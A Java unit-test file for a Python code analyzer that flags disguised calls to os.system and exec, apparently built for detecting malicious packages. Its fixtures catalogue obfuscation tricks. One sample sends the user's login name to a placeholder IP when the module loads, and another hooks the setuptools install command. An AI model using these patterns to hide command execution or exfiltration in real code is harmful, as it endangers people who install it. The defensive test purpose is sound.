package dev.fang.featurize.analysis;

import static dev.fang.featurize.analysis.Analyze.call;
import static dev.fang.featurize.analysis.Analyze.source;
import static dev.fang.featurize.analysis.Analyze.uses;
import static dev.fang.featurize.analysis.Obfuscation.ASSIGNMENT_ALIAS;
import static dev.fang.featurize.analysis.Obfuscation.BUILTINS_LOOKUP;
import static dev.fang.featurize.analysis.Obfuscation.COMPUTED_NAME;
import static dev.fang.featurize.analysis.Obfuscation.DICT_LOOKUP;
import static dev.fang.featurize.analysis.Obfuscation.DUNDER_CALL;
import static dev.fang.featurize.analysis.Obfuscation.DYNAMIC_IMPORT;
import static dev.fang.featurize.analysis.Obfuscation.GETATTR;
import static dev.fang.featurize.analysis.Obfuscation.GETATTRIBUTE;
import static dev.fang.featurize.analysis.Obfuscation.IMPORT_ALIAS;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.EnumSet;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class ApiResolutionTest {

    static Stream<Arguments> waysToWriteOsSystem() {
        return Stream.of(
                Arguments.of("import os\nos.system(c)", Set.of()),
                Arguments.of("import os as o\no.system(c)", Set.of(IMPORT_ALIAS)),
                Arguments.of("from os import system as s\ns(c)", Set.of(IMPORT_ALIAS)),
                Arguments.of("from os import system\nsystem(c)", Set.of()),
                Arguments.of("from os import *\nsystem(c)", Set.of()),
                Arguments.of("__import__('os').system(c)", Set.of(DYNAMIC_IMPORT)),
                Arguments.of("import importlib\nimportlib.import_module('os').system(c)", Set.of(DYNAMIC_IMPORT)),
                Arguments.of("import os\ngetattr(os, 'system')(c)", Set.of(GETATTR)),
                Arguments.of("getattr(__import__('o'+'s'), 'sys'+'tem')(c)", Set.of(DYNAMIC_IMPORT, GETATTR, COMPUTED_NAME)),
                Arguments.of("import os\nos.__dict__['system'](c)", Set.of(DICT_LOOKUP)),
                Arguments.of("import os\nvars(os)['system'](c)", Set.of(DICT_LOOKUP)),
                Arguments.of("import os\nos.__getattribute__('system')(c)", Set.of(GETATTRIBUTE)),
                Arguments.of("import os\ntype(os).__getattribute__(os, 'system')(c)", Set.of(GETATTRIBUTE)),
                Arguments.of("type(__import__('os')).__getattribute__(__import__('os'), 'sys' + 'tem')(c)",
                        Set.of(DYNAMIC_IMPORT, GETATTRIBUTE, COMPUTED_NAME)),
                Arguments.of("import os\nos.system.__call__(c)", Set.of(DUNDER_CALL)),
                Arguments.of("import os\nx = os.system\nx(c)", Set.of(ASSIGNMENT_ALIAS)),
                Arguments.of("m = __import__('os')\nm.system(c)", Set.of(DYNAMIC_IMPORT, ASSIGNMENT_ALIAS)),
                Arguments.of("import sys\nsys.modules['os'].system(c)", Set.of(DYNAMIC_IMPORT)),
                Arguments.of("import posix\nposix.system(c)", Set.of()),
                Arguments.of("import os\ngetattr(os, ''.join(['sys', 'tem']))(c)", Set.of(GETATTR, COMPUTED_NAME)),
                Arguments.of("import base64\n__import__(base64.b64decode('b3M=').decode()).system(c)",
                        Set.of(DYNAMIC_IMPORT, COMPUTED_NAME)),
                Arguments.of("import os\ndef f(c):\n    os.system(c)", Set.of()));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("waysToWriteOsSystem")
    void everyWayToWriteOsSystemResolvesToOsSystemWithItsDetours(String code, Set<Obfuscation> expected) {
        ModuleAnalysis a = source(code);
        ApiUse use = call(a, "os.system");
        assertThat(use.how()).isEqualTo(expected.isEmpty() ? Set.of() : EnumSet.copyOf(expected));
        assertThat(use.call()).isTrue();
        assertThat(use.depth()).isZero();
        assertThat(use.line()).isEqualTo(code.split("\n").length);
    }

    static Stream<Arguments> waysToReachBuiltinExec() {
        return Stream.of(
                Arguments.of("exec(code)", Set.of()),
                Arguments.of("globals()['__builtins__']['exec'](code)", Set.of(BUILTINS_LOOKUP, DICT_LOOKUP)),
                Arguments.of("__builtins__.__dict__['exec'](code)", Set.of(BUILTINS_LOOKUP, DICT_LOOKUP)),
                Arguments.of("__builtins__.exec(code)", Set.of(BUILTINS_LOOKUP)),
                Arguments.of("import builtins\nbuiltins.exec(code)", Set.of(BUILTINS_LOOKUP)),
                Arguments.of("import builtins\ngetattr(builtins, 'ex'+'ec')(code)", Set.of(BUILTINS_LOOKUP, GETATTR, COMPUTED_NAME)),
                Arguments.of("from builtins import exec as run\nrun(code)", Set.of(BUILTINS_LOOKUP, IMPORT_ALIAS)),
                Arguments.of("import __builtin__\n__builtin__.exec(code)", Set.of(BUILTINS_LOOKUP)),
                Arguments.of("getattr(__import__('builtins'), 'exec')(code)", Set.of(BUILTINS_LOOKUP, DYNAMIC_IMPORT, GETATTR)));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("waysToReachBuiltinExec")
    void builtinsReachedByLookupResolveToBuiltinsExec(String code, Set<Obfuscation> expected) {
        ApiUse use = call(source(code), "builtins.exec");
        assertThat(use.how()).isEqualTo(expected.isEmpty() ? Set.of() : EnumSet.copyOf(expected));
    }

    @Test
    void plainBuiltinCallsResolveToTheBuiltinsModule() {
        ModuleAnalysis a = source("exec(x)\neval(x)\ncompile(x, 'f', 'exec')\nopen(p)\n__import__(n)\n");
        for (String api : new String[] {"builtins.exec", "builtins.eval", "builtins.compile", "builtins.open", "builtins.__import__"}) {
            assertThat(call(a, api).how()).as(api).isEmpty();
        }
    }

    @Test
    void importedClassesAndSubmodulesResolveToTheirFullNames() {
        ModuleAnalysis a = source("""
                from subprocess import Popen as P
                import urllib.request
                from urllib import request
                P(['ls'])
                urllib.request.urlopen(u)
                request.urlopen(v)
                """);
        assertThat(call(a, "subprocess.Popen").how()).containsExactly(IMPORT_ALIAS);
        assertThat(uses(a, "urllib.request.urlopen")).hasSize(2).allMatch(u -> u.call() && u.how().isEmpty());
    }

    @Test
    void attributeReferencesThatAreNotCalledAreReportedAsReferences() {
        ModuleAnalysis a = source("import os, sys\nhome = os.environ['HOME']\nif sys.platform == 'win32':\n    pass\n");
        assertThat(uses(a, "os.environ")).singleElement().satisfies(u -> {
            assertThat(u.call()).isFalse();
            assertThat(u.line()).isEqualTo(2);
            assertThat(u.snippet()).isEqualTo("os.environ");
        });
        assertThat(uses(a, "sys.platform")).singleElement().satisfies(u -> assertThat(u.call()).isFalse());
    }

    @Test
    void unresolvedReceiversKeepTheAttributeWithAQuestionMark() {
        ModuleAnalysis a = source("def f(s, addr):\n    s.connect(addr)\n    s.sock.send(b'x')\n");
        assertThat(call(a, "?.connect").moduleLevel()).isFalse();
        assertThat(call(a, "?.sock.send")).isNotNull();
    }

    @Test
    void functionsAndClassesDefinedInTheFileAreNotApis() {
        ModuleAnalysis a = source("""
                import os
                def helper(x):
                    return x
                class Runner:
                    def go(self):
                        pass
                helper(1)
                r = Runner()
                r.go()
                Runner.go(r)
                os.getcwd()
                """);
        assertThat(a.apiUses()).extracting(ApiUse::api).containsExactly("os.getcwd");
    }

    @Test
    void moduleLevelIsFalseInsideFunctionsAndLambdasAndTrueInClassBodies() {
        ModuleAnalysis a = source("""
                import os
                os.getpid()
                class C:
                    os.getuid()
                    def m(self):
                        os.getppid()
                f = lambda: os.getcwd()
                """);
        assertThat(call(a, "os.getpid").moduleLevel()).isTrue();
        assertThat(call(a, "os.getuid").moduleLevel()).isTrue();
        assertThat(call(a, "os.getppid").moduleLevel()).isFalse();
        assertThat(call(a, "os.getcwd").moduleLevel()).isFalse();
    }

    @Test
    void functionsThatCodeRunningOnLoadCallsRunOnLoadToo() {
        ModuleAnalysis a = source("""
                import os, socket
                def send(data):
                    socket.create_connection(('203.0.113.9', 80)).send(data)
                def collect():
                    send(os.getlogin())
                class Beacon:
                    def __init__(self):
                        os.uname()
                    def later(self):
                        os.getcwd()
                    def now(self):
                        os.getuid()
                def unused():
                    os.getppid()
                def main():
                    os.getpid()
                collect()
                Beacon().now()
                """);
        // collect is called at module level and defined after send, which it calls: the order does not matter
        assertThat(call(a, "os.getlogin").moduleLevel()).isTrue();
        assertThat(call(a, "socket.create_connection").moduleLevel()).isTrue();
        assertThat(call(a, "os.uname").moduleLevel()).isTrue();
        assertThat(call(a, "os.getuid").moduleLevel()).isTrue();
        assertThat(call(a, "os.getcwd").moduleLevel()).isFalse();
        assertThat(call(a, "os.getppid").moduleLevel()).isFalse();
        assertThat(call(a, "os.getpid").moduleLevel()).isFalse();
        assertThat(a.apiUses()).extracting(ApiUse::api).containsOnlyOnce("os.getlogin", "socket.create_connection");
    }

    @Test
    void aModulesMainGuardDoesNotRunOnImportButASetupScriptsDoes() {
        String code = """
                import os
                def main():
                    os.getlogin()
                if __name__ == "__main__":
                    os.getpid()
                    main()
                else:
                    os.getcwd()
                """;
        ModuleAnalysis module = Analyze.STRICT.analyze("pkg/cli.py", code.getBytes(StandardCharsets.UTF_8));
        assertThat(call(module, "os.getpid").moduleLevel()).isFalse();
        assertThat(call(module, "os.getlogin").moduleLevel()).isFalse();
        assertThat(call(module, "os.getcwd").moduleLevel()).isTrue();
        ModuleAnalysis setup = Analyze.STRICT.analyze("pkg/setup.py", code.getBytes(StandardCharsets.UTF_8));
        assertThat(call(setup, "os.getpid").moduleLevel()).isTrue();
        assertThat(call(setup, "os.getlogin").moduleLevel()).isTrue();
    }

    @Test
    void callsRecordKeywordNamesSnippetAndLine() {
        ModuleAnalysis a = source("import subprocess\n\nsubprocess.run(['id'],\n    shell=True, capture_output=True)\n");
        ApiUse u = call(a, "subprocess.run");
        assertThat(u.keywords()).containsExactly("shell", "capture_output");
        assertThat(u.line()).isEqualTo(3);
        assertThat(u.snippet()).startsWith("subprocess.run(['id'],").endsWith("capture_output=True)");
    }

    @Test
    void snippetsAreCappedAtTheContractLength() {
        ModuleAnalysis a = source("import os\nos.system('" + "x".repeat(500) + "')\n");
        assertThat(call(a, "os.system").snippet()).hasSize(ModuleAnalysis.SNIPPET_CHARS);
    }

    @Test
    void functionBodiesSeeTheFinalModuleLevelBinding() {
        ModuleAnalysis a = source("import os\ndef f(c):\n    run(c)\nrun = os.system\n");
        ApiUse u = call(a, "os.system");
        assertThat(u.how()).containsExactly(ASSIGNMENT_ALIAS);
        assertThat(u.line()).isEqualTo(3);
    }

    @Test
    void parametersShadowModuleNames() {
        ModuleAnalysis a = source("import os\ndef f(os):\n    os.system(1)\n");
        assertThat(uses(a, "os.system")).isEmpty();
        assertThat(call(a, "?.system")).isNotNull();
    }

    @Test
    void localAssignmentsInFunctionsAreFollowed() {
        ModuleAnalysis a = source("def f(c):\n    m = __import__('subprocess')\n    m.check_output(c)\n");
        assertThat(call(a, "subprocess.check_output").how()).containsExactlyInAnyOrder(DYNAMIC_IMPORT, ASSIGNMENT_ALIAS);
    }

    @Test
    void classBasesAreResolvedAndMethodsListed() {
        ModuleAnalysis a = source("""
                from setuptools.command.install import install
                class Evil(install):
                    def run(self):
                        install.run(self)
                setup(cmdclass={'install': Evil})
                """);
        assertThat(a.classes()).singleElement().satisfies(k -> {
            assertThat(k.name()).isEqualTo("Evil");
            assertThat(k.bases()).containsExactly("setuptools.command.install.install");
            assertThat(k.methods()).containsExactly("run");
            assertThat(k.line()).isEqualTo(2);
        });
        assertThat(call(a, "setuptools.command.install.install.run").moduleLevel()).isFalse();
    }

    @Test
    void dunderImportOfADottedNameReturnsTheTopLevelPackageUnlessFromlistIsGiven() {
        ModuleAnalysis a = source("__import__('os.path').system(1)\n__import__('urllib.request', fromlist=['x']).urlopen(u)\n");
        assertThat(call(a, "os.system").how()).containsExactly(DYNAMIC_IMPORT);
        assertThat(call(a, "urllib.request.urlopen").how()).containsExactly(DYNAMIC_IMPORT);
    }

    @Test
    void getattrWithAConstantOnAnUnknownReceiverKeepsTheAttribute() {
        ModuleAnalysis a = source("def f(sock, a):\n    getattr(sock, 'conn' + 'ect')(a)\n");
        assertThat(call(a, "?.connect").how()).containsExactlyInAnyOrder(GETATTR, COMPUTED_NAME);
    }
}
